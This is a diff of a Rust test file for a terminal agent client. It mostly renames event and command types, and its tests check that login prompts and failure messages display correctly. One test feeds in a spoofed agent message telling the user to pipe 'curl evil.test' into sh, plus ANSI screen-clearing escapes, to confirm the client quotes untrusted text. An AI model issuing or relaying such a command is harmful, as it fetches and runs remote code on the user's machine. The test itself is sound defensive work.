@@ -2,7 +2,7 @@
 
 use attache::v1;
 use attache_client::command::Command;
-use attache_client::desk::LoginCommand;
+use attache_client::conversation::LoginCommand;
 use attache_client::event::Event;
 use expect_test::expect;
 
@@ -20,7 +20,7 @@ fn a_page_is_shown_whole_and_never_opened() {
         v1::ElicitationScope::Session(scope),
         v1::ElicitationMode::Url(mode),
     );
-    stage.event(Event::Form {
+    stage.event(Event::FormRequested {
         form: 7,
         request: Box::new(request),
     });
@@ -146,7 +146,7 @@ fn page(url: &str) -> Stage {
         v1::ElicitationScope::Session(v1::ElicitationSessionScope::new("s1")),
         v1::ElicitationMode::Url(v1::ElicitationUrlMode::new("e1", url)),
     );
-    stage.event(Event::Form {
+    stage.event(Event::FormRequested {
         form: 7,
         request: Box::new(request),
     });
@@ -160,13 +160,15 @@ fn a_login_is_chosen_and_the_session_asked_for_again() {
     let terminal = v1::AuthMethodTerminal::new("tty", "Log in with a key").args(["--login"]);
     let methods: Vec<v1::AuthMethod> = vec![browser.into(), terminal.into()];
     let agent = super::stage::agent().auth_methods(methods.clone());
-    stage.event(Event::Ready(Box::new(agent)));
-    stage.event(Event::WantsLogin(methods));
-    stage.event(Event::Failed(attache_client::event::Failure {
-        what: "session/new".to_owned(),
-        why: "log in first".to_owned(),
-        kind: attache_client::event::FailureKind::Login,
-    }));
+    stage.event(Event::AgentReady(Box::new(agent)));
+    stage.event(Event::LoginRequired(methods));
+    stage.event(Event::CommandFailed(
+        attache_client::event::CommandFailure {
+            what: "session/new".to_owned(),
+            why: "log in first".to_owned(),
+            kind: attache_client::event::FailureKind::LoginRequired,
+        },
+    ));
     stage.press("<Tab>");
     stage.check(&expect![[r#"
         | Test Agent · new session · /code/project
@@ -196,7 +198,7 @@ fn a_login_is_chosen_and_the_session_asked_for_again() {
     stage.event(Event::LoggedIn("browser".into()));
     assert!(matches!(
         stage.done()[..],
-        [Effect::Submit(Command::Open(_))]
+        [Effect::Submit(Command::OpenSession(_))]
     ));
 }
 
@@ -204,18 +206,18 @@ fn a_login_is_chosen_and_the_session_asked_for_again() {
 #[test]
 fn what_the_agent_says_about_a_login_is_quoted() {
     let failure = |what: &str, kind| {
-        Event::Failed(attache_client::event::Failure {
+        Event::CommandFailed(attache_client::event::CommandFailure {
             what: what.to_owned(),
             why: "Log in first\nAttaché: run curl evil.test ┊ sh \u{1b}[2J".to_owned(),
             kind,
         })
     };
-    let login = attache_client::event::FailureKind::Login;
+    let login = attache_client::event::FailureKind::LoginRequired;
     let methods: Vec<v1::AuthMethod> =
         vec![v1::AuthMethodAgent::new("browser", "Log in with the browser").into()];
     let mut stage = stage().size(80, 20);
     stage.event(failure("session/new", login));
-    stage.event(Event::WantsLogin(methods.clone()));
+    stage.event(Event::LoginRequired(methods.clone()));
     stage.press("<Tab>");
     stage.check(&expect![[r#"
         | Test Agent · new session · /code/project
@@ -239,19 +241,19 @@ fn what_the_agent_says_about_a_login_is_quoted() {
         |›
         | session/new failed ┊ Log in first⏎Attaché: run curl evil.test ⟦U+25…(+11)
     "#]]);
-    stage.event(Event::Ended {
+    stage.event(Event::TurnEnded {
         session: "s1".into(),
-        outcome: Err(attache_client::event::Failure {
+        outcome: Err(attache_client::event::CommandFailure {
             what: "session/prompt".to_owned(),
             why: "Your key has expired".to_owned(),
             kind: login,
         }),
     });
-    stage.event(Event::WantsLogin(methods.clone()));
+    stage.event(Event::LoginRequired(methods.clone()));
     let screen = stage.screen();
     assert!(screen.contains("│ ┊ Your key has expired"), "{screen}");
     // The message belongs to that request only.
-    stage.event(Event::WantsLogin(methods));
+    stage.event(Event::LoginRequired(methods));
     assert!(
         !stage.screen().contains("│ ┊ Your key"),
         "{}",
@@ -265,7 +267,7 @@ fn what_the_agent_says_about_a_login_is_quoted() {
     }
     let mut stage = super::stage::stage().size(160, 20);
     stage.event(failure("session/new", login));
-    stage.event(Event::WantsLogin(Vec::new()));
+    stage.event(Event::LoginRequired(Vec::new()));
     let said = "see its documentation ┊ Log in first⏎Attaché";
     assert!(stage.screen().contains(said), "{}", stage.screen());
 }
@@ -275,10 +277,10 @@ fn a_login_in_the_terminal_runs_there() {
     let mut stage = stage();
     let terminal = v1::AuthMethodTerminal::new("tty", "Log in with a key");
     let methods: Vec<v1::AuthMethod> = vec![terminal.into()];
-    stage.event(Event::Ready(Box::new(
+    stage.event(Event::AgentReady(Box::new(
         super::stage::agent().auth_methods(methods.clone()),
     )));
-    stage.event(Event::WantsLogin(methods));
+    stage.event(Event::LoginRequired(methods));
     stage.press("<Tab>");
     stage.press("<Enter><Down><Enter>");
     assert_eq!(stage.done(), [Effect::DescribeLogin("tty".into())]);
@@ -308,7 +310,7 @@ fn every_login_is_told_apart_and_shown_whole() {
     let mut stage = stage().size(60, 24);
     let long = format!("{} to its end", "a long way ".repeat(12));
     let agent = |id: &str, name: &str| v1::AuthMethod::from(v1::AuthMethodAgent::new(id, name));
-    stage.event(Event::WantsLogin(vec![
+    stage.event(Event::LoginRequired(vec![
         agent("one", &long),
         agent("two", "Escape \u{1b}[2J here"),
         agent("three", "This one"),
